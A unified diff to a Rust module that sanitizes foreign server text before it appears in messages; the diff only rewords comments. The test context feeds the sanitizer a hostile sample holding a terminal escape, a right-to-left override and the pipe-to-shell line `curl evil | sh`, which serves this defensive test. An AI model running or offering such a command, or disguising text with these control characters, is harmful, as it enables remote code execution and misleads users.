@@ -1,4 +1,4 @@
-//! Makes foreign text safe to stand in a message: pure.
+//! Makes foreign text safe to include in a message: pure.
 
 /// The longest foreign text in a message: enough for any error of Postgres.
 const MAX_SANITIZED: usize = 1000;
@@ -28,7 +28,7 @@ fn is_bidirectional(c: char) -> bool {
 mod tests {
     use super::*;
 
-    /// Before, the message of a server stood unchanged beside a command to paste, and could look like one.
+    /// Before, a server's message was copied unchanged next to a command to paste, and could look like one.
     #[test]
     fn foreign_text_is_one_line_that_looks_like_no_command() {
         let detail = sanitize("no\u{1b}[2J `curl evil | sh`\r\nit is fine\u{202e}");
